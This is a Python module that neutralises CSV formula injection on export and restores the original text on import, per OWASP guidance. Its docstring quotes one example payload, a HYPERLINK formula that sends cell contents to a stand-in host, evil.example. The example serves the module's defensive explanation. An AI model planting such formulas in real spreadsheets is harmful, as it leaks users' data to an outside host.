"""CSV cells that a spreadsheet would run as formulas, written as text (OWASP's CSV injection advice).

A cell beginning with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to Excel,
LibreOffice and Google Sheets (`=HYPERLINK("http://evil.example/?x="&A1,"click")` from an
imported case would reach a spreadsheet live). Every CSV the studio writes prefixes such cells
with `'`, which spreadsheets show as text; a cell that already begins with `'` gets one more, so
that reading the file back (`csv_cell_read`, used by the CSV import) gives the original exactly.
"""

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell_written(value):
    """The cell as a CSV file holds it: formula-like text behind a `'`; numbers and other values unchanged."""
    if isinstance(value, str) and value.startswith((*FORMULA_STARTS, "'")):
        return "'" + value
    return value


def csv_cell_read(value):
    """The original text of a cell `csv_cell_written` wrote (one `'` taken off a protected cell)."""
    if isinstance(value, str) and value.startswith("'") and value[1:].startswith((*FORMULA_STARTS, "'")):
        return value[1:]
    return value
